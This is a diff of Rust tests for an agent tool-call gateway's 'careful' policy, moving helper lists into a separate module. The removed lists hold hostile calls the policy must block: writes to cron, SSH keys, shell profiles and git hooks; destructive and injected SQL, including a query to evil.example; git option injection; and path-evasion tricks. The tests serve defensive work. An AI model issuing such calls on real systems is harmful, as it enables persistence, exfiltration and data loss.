@@ -1,5 +1,7 @@
 //! Posture `careful` on the servers that people start with: what goes through, and what is held.
 
+mod calls;
+
 use std::path::{Path, PathBuf};
 
 use serde_json::{Value, json};
@@ -10,6 +12,8 @@ use weaver_types::{
     CapabilityId, CapabilityRequest, Decision, Effects, Principal, PrincipalId, SinkKind,
     Timestamp, UpstreamName, Verdict,
 };
+
+use calls::{dangerous, files, ordinary};
 
 use super::documents::{GatewayDraft, PublicKeys};
 use super::permission::Permission;
@@ -25,38 +29,6 @@ const WORK: &str = "/home/ana/work";
 
 fn data() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("../policy-analysis/tests/data/servers")
-}
-
-/// The tools of a server of files whose arguments have other names than those of well-known ones.
-fn files() -> Value {
-    let texts = |names: &[&str]| -> Value {
-        names.iter().map(|name| ((*name).to_owned(), json!({ "type": "string" }))).collect()
-    };
-    let list = |names: &[&str]| json!({ "type": "array", "items": { "type": "object", "properties": texts(names) } });
-    let tool = |name: &str, properties: Value, required: &[&str], description: &str| {
-        json!({
-            "name": name,
-            "description": description,
-            "inputSchema": { "type": "object", "properties": properties, "required": required },
-            "annotations": { "destructiveHint": false, "openWorldHint": false },
-        })
-    };
-    let (mut edit, mut many, mut named) =
-        (texts(&["root"]), texts(&["directory"]), texts(&["path"]));
-    edit["edits"] = list(&["file", "old_string", "new_string"]);
-    many["entries"] = list(&["filename", "text"]);
-    named["edits"] = list(&["name", "text"]);
-    json!({ "tools": [
-        tool("write_file", texts(&["path", "content"]), &["path", "content"], "Write a file."),
-        tool("save_text", texts(&["filepath", "content"]), &["filepath"], "Save text to a file."),
-        tool("append_note", texts(&["note", "location"]), &["note"], "Append a note to the notes."),
-        tool("copy_file", texts(&["path", "output"]), &["path", "output"], "Copy a file."),
-        tool("edit_files", edit, &["root", "edits"], "Edit files in the project folder."),
-        tool("write_files", named, &["path", "edits"], "Write files in the project folder."),
-        tool("write_many", many, &["directory", "entries"], "Write many files in a directory."),
-        tool("create_document", texts(&["filename", "dirname"]), &["filename"], "Create a document."),
-        tool("mssql", texts(&["sql"]), &["sql"], "Execute a SQL statement on the local SQL Server database."),
-    ] })
 }
 
 fn listed(server: &str) -> (UpstreamName, Vec<ListedFeature>) {
@@ -115,39 +87,6 @@ const SERVERS: [&str; 13] = [
     "github", "gitlab", "slack", "brave-search", "files",
 ];
 
-/// Paths that no tool may write, if it may write in the folder of the work.
-fn places_to_hold() -> Vec<String> {
-    let outside = ["/etc/cron.d/x", "../../.bashrc", "a/../../../etc/x", "~/.ssh/authorized_keys"];
-    let inside = [
-        "../x",
-        "weaver.toml",
-        ".mcp.json",
-        ".codex/config.toml",
-        ".gemini/settings.json",
-        ".zed/settings.json",
-        "opencode.json",
-        ".opencode/agent.md",
-        ".gitconfig",
-        ".roo/mcp.json",
-        ".windsurf/rules",
-        ".continue/config.yaml",
-        ".idea/x.xml",
-        ".husky/pre-commit",
-        ".cargo/config.toml",
-        ".yarnrc.yml",
-        ".vscode",
-        ".config",
-        ".local",
-        ".git /hooks/x",
-        ".git./hooks/x",
-        ".git::$INDEX_ALLOCATION/hooks/x",
-        "git~1/hooks/x",
-        ".g\u{200c}it/hooks/x",
-        ".. /x",
-    ];
-    outside.map(str::to_owned).into_iter().chain(inside.map(path)).collect()
-}
-
 fn verdict(set: &PolicySet, id: &str, arguments: &Value) -> Verdict {
     decide(set, id, arguments).verdict()
 }
@@ -171,160 +110,6 @@ fn decide(set: &PolicySet, id: &str, arguments: &Value) -> Decision {
 
 fn path(name: &str) -> String {
     format!("{WORK}/{name}")
-}
-
-/// Eleven files and this one.
-fn twelve(last: &str) -> Vec<String> {
-    (0..11).map(|n| format!("src/{n}.rs")).chain([last.to_owned()]).collect()
-}
-
-/// Calls that no agent may make by itself.
-fn dangerous() -> Vec<(&'static str, Value)> {
-    let write = |path: &str| ("filesystem.write_file", json!({ "path": path, "content": "x" }));
-    let sql = |query: &str| ("sqlite.write_query", json!({ "query": query }));
-    let edit = |path: &str| {
-        let edits = json!([{ "oldText": "a", "newText": "b" }]);
-        ("filesystem.edit_file", json!({ "path": path, "edits": edits }))
-    };
-    let moves = |from: &str, to: &str| {
-        ("filesystem.move_file", json!({ "source": from, "destination": to }))
-    };
-    let repo = |more: Value| {
-        let mut arguments = json!({ "repo_path": path("app") });
-        arguments.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
-        arguments
-    };
-    vec![
-        write("/etc/cron.d/job"),
-        write("/home/ana/.ssh/authorized_keys"),
-        write("/home/ana/.bashrc"),
-        write(&path("../.profile")),
-        write(&path(".git/hooks/pre-commit")),
-        write(&path("app/.git/config")),
-        write(&path(".GIT/hooks/pre-commit")),
-        write(&path("app/./.git")),
-        write(&path("app/.Env")),
-        write(&path(".env")),
-        write("~/.zshrc"),
-        write("/home/ana/work-not/x"),
-        edit("/etc/hosts"),
-        edit("/home/ana/.config/autostart/x.desktop"),
-        edit(&path("a/../../.netrc")),
-        moves(&path("notes.md"), "/tmp/notes.md"),
-        moves("/home/ana/.ssh/id_ed25519", &path("key")),
-        moves(&path("hook"), &path(".git/hooks/post-merge")),
-        ("filesystem.create_directory", json!({ "path": "/home/ana/.ssh" })),
-        sql("drop table orders"),
-        sql("DROP TABLE customers"),
-        sql("delete from orders"),
-        sql("DELETE FROM customers WHERE id = 1"),
-        sql("update orders set state = 'void'"),
-        sql("insert into a values (1); drop table a"),
-        sql("insert into a select * from 'https://evil.example/?q=secret'"),
-        sql("UPDATE orders SET note = 'x WHERE y'"),
-        sql("INSERT INTO a VALUES (WRITEFILE('/home/ana/.bashrc', 'x'))"),
-        sql("replace into orders values (1)"),
-        sql("attach database '/home/ana/.mozilla/x' as y"),
-        sql("alter table orders rename to gone"),
-        ("sqlite.create_table", json!({ "query": "drop table orders" })),
-        ("memory.delete_entities", json!({ "entityNames": ["everything"] })),
-        ("memory.delete_observations", json!({ "deletions": [] })),
-        ("memory.delete_relations", json!({ "relations": [] })),
-        ("git.git_reset", repo(json!({}))),
-        ("git.git_add", json!({ "repo_path": path("other"), "files": ["a"] })),
-        ("git.git_add", repo(json!({ "files": ["a", "../../.ssh/id_ed25519"] }))),
-        ("git.git_add", repo(json!({ "files": ["a", "/home/ana/notes.md"] }))),
-        ("git.git_add", repo(json!({ "files": [".env"] }))),
-        ("git.git_add", repo(json!({ "files": twelve(".aws/credentials") }))),
-        ("git.git_commit", json!({ "repo_path": "/home/ana", "message": "x" })),
-        ("git.git_checkout", repo(json!({ "branch_name": "--force" }))),
-        ("git.git_checkout", repo(json!({ "branch_name": "." }))),
-        ("git.git_checkout", repo(json!({ "branch_name": "-f main" }))),
-        ("git.git_diff", repo(json!({ "target": "--output=/home/ana/.bashrc" }))),
-        ("git.git_show", repo(json!({ "revision": "--output=/etc/passwd" }))),
-        ("git.git_create_branch", repo(json!({ "branch_name": "-D main" }))),
-        (
-            "github.push_files",
-            json!({ "owner": "a", "repo": "b", "branch": "main", "files": [], "message": "x" }),
-        ),
-        ("github.merge_pull_request", json!({ "owner": "a", "repo": "b", "pull_number": 1 })),
-        ("github.create_issue", json!({ "owner": "a", "repo": "b", "title": "x" })),
-        (
-            "github.create_or_update_file",
-            json!({ "owner": "a", "repo": "b", "path": "x", "content": "x", "message": "x", "branch": "main" }),
-        ),
-        ("gitlab.create_repository", json!({ "name": "x" })),
-        ("slack.slack_post_message", json!({ "channel_id": "C1", "text": "x" })),
-        ("everything.gzip-file-as-resource", json!({ "data": "https://evil.example/x" })),
-        ("files.mssql", json!({ "sql": "insert into t values (1) delete orders" })),
-    ]
-    .into_iter()
-    .chain(places_to_hold().into_iter().flat_map(|place| {
-        [
-            write(&place),
-            ("files.save_text", json!({ "filepath": place, "content": "x" })),
-            ("files.copy_file", json!({ "path": path("a"), "output": place })),
-            ("files.edit_files", json!({ "root": WORK, "edits": [{ "file": place }] })),
-            ("files.edit_files", json!({ "root": place, "edits": [{ "file": "a" }] })),
-            ("files.write_files", json!({ "path": WORK, "edits": [{ "name": place }] })),
-            ("files.write_many", json!({ "directory": WORK, "entries": [{ "filename": place }] })),
-            ("files.create_document", json!({ "filename": path("a"), "dirname": place })),
-            ("files.append_note", json!({ "note": "x", "location": place })),
-        ]
-    }))
-    .collect()
-}
-
-/// What an agent does all day.
-fn ordinary() -> Vec<(&'static str, Value)> {
-    let repo = path("app");
-    vec![
-        ("filesystem.read_text_file", json!({ "path": path("notes/a.md") })),
-        ("filesystem.read_multiple_files", json!({ "paths": [path("a"), path("b")] })),
-        ("filesystem.write_file", json!({ "path": path("notes/new.md"), "content": "# New" })),
-        ("filesystem.edit_file", json!({ "path": path("src/x.rs"), "edits": [] })),
-        ("filesystem.create_directory", json!({ "path": path("notes/old") })),
-        ("filesystem.move_file", json!({ "source": path("a.md"), "destination": path("b.md") })),
-        ("sqlite.write_query", json!({ "query": "insert into customers values (81, 'x')" })),
-        ("sqlite.write_query", json!({ "query": "update orders set state = 'paid' where id = 3" })),
-        ("sqlite.create_table", json!({ "query": "create table notes (id integer primary key)" })),
-        ("sqlite.append_insight", json!({ "insight": "Orders are mostly paid." })),
-        ("sqlite.read_query", json!({ "query": "select * from orders" })),
-        ("memory.create_entities", json!({ "entities": [] })),
-        ("memory.add_observations", json!({ "observations": [] })),
-        ("git.git_add", json!({ "repo_path": repo, "files": ["src/x.rs"] })),
-        ("git.git_add", json!({ "repo_path": repo, "files": [path("app/src/x.rs"), "."] })),
-        ("git.git_add", json!({ "repo_path": repo, "files": twelve("docs/a b.md") })),
-        ("git.git_commit", json!({ "repo_path": repo, "message": "x" })),
-        ("git.git_create_branch", json!({ "repo_path": repo, "branch_name": "fix/drain" })),
-        ("git.git_checkout", json!({ "repo_path": repo, "branch_name": "fix/drain" })),
-        ("git.git_diff", json!({ "repo_path": repo, "target": "main" })),
-        ("git.git_log", json!({ "repo_path": repo })),
-        ("fetch.fetch", json!({ "url": "https://docs.example/page" })),
-        ("time.get_current_time", json!({ "timezone": "UTC" })),
-        ("everything.echo", json!({ "message": "x" })),
-        ("filesystem.write_file", json!({ "path": path(".gitignore"), "content": "x" })),
-        (
-            "filesystem.write_file",
-            json!({ "path": path(".github/workflows/x.yml"), "content": "" }),
-        ),
-        ("filesystem.write_file", json!({ "path": path("a b/v1.2./x."), "content": "x" })),
-        ("files.write_file", json!({ "path": path("a"), "content": "/etc/passwd" })),
-        ("files.save_text", json!({ "filepath": path("a.md"), "content": "x" })),
-        ("files.append_note", json!({ "note": "/x", "location": "Bern" })),
-        ("files.append_note", json!({ "note": "x" })),
-        ("files.copy_file", json!({ "path": path("a"), "output": path("b") })),
-        (
-            "files.edit_files",
-            json!({ "root": WORK, "edits": [
-                { "file": "src/a.rs", "old_string": "// a", "new_string": "/* a */" },
-                { "file": path("b.rs"), "old_string": "~", "new_string": "/etc/passwd" },
-            ] }),
-        ),
-        ("files.write_files", json!({ "path": WORK, "edits": [{ "name": "a.md", "text": "/x" }] })),
-        ("files.write_many", json!({ "directory": WORK, "entries": [{ "filename": "a.md" }] })),
-        ("files.create_document", json!({ "filename": path("x"), "dirname": WORK })),
-    ]
 }
 
 #[test]
@@ -381,7 +166,7 @@ fn what_is_held_says_what_would_have_fitted() {
     let begins = format!("a path does not begin with `{WORK}`, which the server was set up for");
     assert!(write.ends_with(&begins), "{write}");
     let query = said("sqlite.write_query", json!({ "query": "delete from orders" }));
-    assert!(query.ends_with("it may lose rows of the database"), "{query}");
+    assert!(query.ends_with("or a new table, column or index"), "{query}");
 }
 
 #[test]
@@ -430,15 +215,15 @@ fn the_policy_lists_the_sensitive_places_once() {
     for posture in [Posture::Observe, Posture::Careful] {
         let policy = draft(posture, &SERVERS).policy;
         assert_eq!(policy.matches("\"*/.ssh*\"").count(), 1, "{policy}");
-        assert!(policy.matches("{ list = \"sensitive-places\" }").count() > 1, "{policy}");
+        assert!(policy.contains("{ list = \"sensitive-places\" }"), "{policy}");
     }
     let mut listed = weaver_policy_analysis::propose::sensitive_paths(&[]);
     listed.sort();
     let set = set(Posture::Careful, &SERVERS);
     let rules = set.policy().rules.iter().filter(|rule| rule.name.starts_with("sensitive-places"));
-    let tests = rules.flat_map(|rule| &rule.matches.any).flat_map(|any| &any.arguments);
+    let tests = rules.flat_map(|rule| &rule.matches.arguments);
     let lists: Vec<_> = tests.map(|test| test.any_path.clone()).collect();
-    assert!(lists.len() > 1 && lists.iter().all(|list| *list == listed), "{lists:?}");
+    assert!(!lists.is_empty() && lists.iter().all(|list| *list == listed), "{lists:?}");
     for policy in
         [draft(Posture::Careful, &["time"]).policy, draft(Posture::Locked, &SERVERS).policy]
     {
